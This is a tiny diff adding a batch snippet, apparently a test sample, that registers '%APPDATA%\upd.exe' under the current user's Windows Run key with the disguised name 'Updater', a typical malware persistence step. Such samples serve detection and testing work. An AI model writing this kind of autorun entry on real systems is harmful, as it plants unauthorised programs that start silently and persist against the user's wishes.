@@ -1,0 +1,2 @@
+rem test sample
+reg add "HKCU\Software\Microsoft\Windows\CurrentVersion\Run" /v Updater /d "%APPDATA%\upd.exe" /f
